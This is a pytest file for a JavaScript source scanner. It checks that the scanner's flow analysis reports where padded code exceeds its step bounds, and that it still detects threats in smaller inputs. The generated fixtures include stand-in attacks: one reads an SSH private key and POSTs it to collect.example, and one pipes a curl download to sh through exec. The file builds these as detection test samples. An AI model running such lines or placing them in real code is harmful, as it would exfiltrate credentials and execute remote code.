"""What is too much to be followed to its end is told, whichever bound it met."""

from __future__ import annotations

from pathlib import Path

import pytest

from codebases import SERVER_JS, codebase
from douane import scan_source
from douane.detectors._elsewhere_sent import sent_elsewhere
from douane.detectors._flow import State, program_of
from douane.detectors._flow.handing import MAX_PLACES, places
from douane.detectors._flow.index import ELEMENT, MOST_OF_NAME
from douane.detectors._flow.state import flattened

_GIVEN_UP = "was given up after a bounded number of steps"


def _padded_list(count: int) -> str:
    names = [f"v{number}" for number in range(count)]
    return (
        "const fs = require('fs');\n"
        + "".join(f"const {name} = q_{name}();\n" for name in names)
        + "const key = fs.readFileSync(process.env.HOME + '/.ssh/id_rsa', 'utf8');\n"
        + f"const all = [{', '.join(names)}, key];\n"
        + "fetch('https://collect.example/x', { method: 'POST', body: all.join('') });\n"
    )


def _padded_choice(count: int) -> str:
    return (
        "const { exec } = require('child_process');\nlet cmd;\n"
        + "".join(f"if (process.argv[2] === '{number}') cmd = q{number}();\n" for number in range(count))
        + "if (process.argv[2] === 'x') cmd = 'curl https://collect.example/x.sh | sh';\nexec(cmd);\n"
    )


def _padded_mails(count: int) -> str:
    mails = "".join(f"mail.send({{ from: me, to, replyTo: 'nobody{number}' }});\n" for number in range(count))
    last = "mail.send({ from: me, to, replyTo: 'desk@collector.example' });\n"
    return f"{SERVER_JS}const me = process.env.FROM;\nexport function all(to) {{\n{mails}{last}}}\n"


def _padded_values(count: int) -> str:
    values = ", ".join(f"`What is said of number ${{{number}}}`" for number in range(count))
    return f"{SERVER_JS}const schema = {{ type: 'string', enum: [{values}] }};\n"


@pytest.mark.parametrize(
    "source",
    [_padded_list(7_000), _padded_choice(150), _padded_mails(300), _padded_values(50)],
    ids=["a walk", "ends of a name", "answers to mails", "values to choose from"],
)
def test_padding_leaves_a_gap_that_names_the_file(tmp_path: Path, source: str) -> None:
    (tmp_path / "package.json").write_text('{"name": "padded", "version": "1.0.0", "main": "index.js"}')
    (tmp_path / "index.js").write_text(source)
    found = scan_source(tmp_path).examination
    assert [gap for gap in found.gaps if "index.js" in gap.what and _GIVEN_UP in gap.why and gap.rows]


@pytest.mark.parametrize(
    ("source", "rule"),
    [(_padded_list(300), "credential-exfiltration"), (_padded_choice(60), "remote-code")],
    ids=["a walk", "ends of a name"],
)
def test_less_is_followed(tmp_path: Path, source: str, rule: str) -> None:
    (tmp_path / "package.json").write_text('{"name": "padded", "version": "1.0.0", "main": "index.js"}')
    (tmp_path / "index.js").write_text(source)
    found = scan_source(tmp_path).examination
    assert rule in {finding.rule for finding in found.findings}
    assert not [gap for gap in found.gaps if _GIVEN_UP in gap.why]


@pytest.mark.parametrize(
    ("steps", "expected"),
    [
        ((), ()),
        (("id", ELEMENT), ("id", ELEMENT)),
        (("id", ELEMENT, ELEMENT), ("id", ELEMENT, ELEMENT)),
        (("id", *[ELEMENT] * 40, "at"), ("id", ELEMENT, ELEMENT, "at")),
        (tuple("abcdefghijkl"), tuple("abcdefgh")),
    ],
)
def test_a_circle_leads_no_deeper_into_a_value(steps: tuple[str, ...], expected: tuple[str, ...]) -> None:
    given = codebase({"index.js": "go();"})
    index = program_of(given).index("index.js")
    assert index is not None
    state = State(index, index.module.root, steps)
    assert flattened(state).steps == expected
    assert flattened(state).key == State(index, index.module.root, expected).key


def test_what_was_given_up_once_is_told_to_each_that_asks() -> None:
    given = codebase({"index.js": "go();"})
    program = program_of(given)
    asked: list[str] = []

    def work() -> str:
        asked.append("asked")
        program.unfollowed("index.js")
        return "answer"

    given.asker = "one"
    with program.unnoted():
        assert program.once("question", work) == "answer"
    assert not given.gaps
    given.asker = "other"
    assert program.once("question", work) == "answer"
    assert asked == ["asked"]
    assert ["other" in gap.why for gap in given.gaps] == [True]


def test_an_answer_for_want_of_steps_is_asked_for_again() -> None:
    given = codebase({"index.js": "go();"})
    program = program_of(given)
    asked: list[str] = []

    def work() -> int:
        asked.append("asked")
        if len(asked) == 1:
            program.give_up("index.js")
        return len(asked)

    assert [program.once("question", work) for _ in range(3)] == [1, 2, 2]
    assert program.cut


def test_places_beyond_the_bound_are_told_to_each_that_asks() -> None:
    given = codebase({"index.js": "function work(x) { go(x); }\n" + "use(work);\n" * (MAX_PLACES + 1)})
    program = program_of(given)
    index = program.index("index.js")
    assert index is not None
    for asker in ("one", "other"):
        given.asker = asker
        assert len(list(places(program, index, index.functions[0]))) == MAX_PLACES
    (gap,) = given.gaps
    assert all(asker in gap.why for asker in ("one", "other"))


def test_a_name_of_other_functions_costs_nothing_of_the_bound() -> None:
    others = "".join(f"function f{number}(e) {{ e.push(1); e.at = 1; }}\n" for number in range(MOST_OF_NAME))
    own = "function last() { const e = []; e.push(load()); sink(e); }\n"
    given = codebase({"index.js": others + own})
    program = program_of(given)
    tracer = program.tracer(
        lambda state: "load" if (call := program.call(state)) and call.name == "load" else None
    )
    (sink,) = program.calls(("index.js",), frozenset({"sink"}))
    assert [trace.what for node in program.nodes(sink) for trace in tracer.trace(sink.at(node))] == ["load"]
    assert not given.gaps


def test_a_walk_that_many_questions_share_leaves_a_gap_where_it_ends() -> None:
    asked = (
        f"client.send(`{' '.join(f'${{q{number}_{each}}}' for each in range(100))}`.trim(), text);\n"
        for number in range(60)
    )
    fixed = "client.send('desk@collector.example', text);\n"
    given = codebase({"index.js": f"export function post(text) {{\n{''.join(asked)}{fixed}}}\n"})
    assert not list(sent_elsewhere(program_of(given)))
    assert [gap for gap in given.gaps if "index.js" in gap.what and gap.rows]


@pytest.mark.parametrize(("most", "is_cut"), [(5, True), (5_000, False)])
def test_what_is_asked_in_a_number_of_steps_says_whether_they_sufficed_and_leaves_no_gap(
    most: int, is_cut: bool
) -> None:
    read = codebase({"index.js": "".join(f"const v{n} = v{n + 1};\n" for n in range(40)) + "use(v0);\n"})
    program = program_of(read)
    used = program.calls(("index.js",), frozenset({"use"}))
    ends = (leaf for call in used for leaf in program.leaves(program.argument(call, 0) or call))
    found, cut = program.in_steps(most, ends)
    assert cut is is_cut
    assert not program.cut
    assert not read.gaps
    assert [leaf.index.text(leaf.node) for leaf in found if not is_cut] == ["v40"] * (not is_cut)
